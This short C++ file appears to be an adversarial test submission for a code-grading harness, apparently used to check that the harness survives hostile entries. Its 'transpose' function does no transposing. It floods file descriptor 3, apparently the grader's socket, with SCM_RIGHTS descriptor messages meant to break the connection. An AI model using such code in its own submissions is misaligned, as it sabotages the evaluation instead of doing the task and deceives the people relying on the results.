// attack: sends descriptors to the grader with its bytes
// against: 05_transpose/2_pad
// must: crashed: disturbed the connection

#include <sys/socket.h>
#include <unistd.h>

void transpose(float* out, const float* in, int rows, int cols) {
  char byte = 0, room[CMSG_SPACE(sizeof(int))] = {};
  iovec bytes{&byte, 1};
  msghdr message{};
  message.msg_iov = &bytes;
  message.msg_iovlen = 1;
  message.msg_control = room;
  message.msg_controllen = sizeof room;
  cmsghdr* head = CMSG_FIRSTHDR(&message);
  head->cmsg_level = SOL_SOCKET;
  head->cmsg_type = SCM_RIGHTS;
  head->cmsg_len = CMSG_LEN(sizeof(int));
  for (int i = 0; i < 2000; ++i) sendmsg(3, &message, MSG_NOSIGNAL);
}
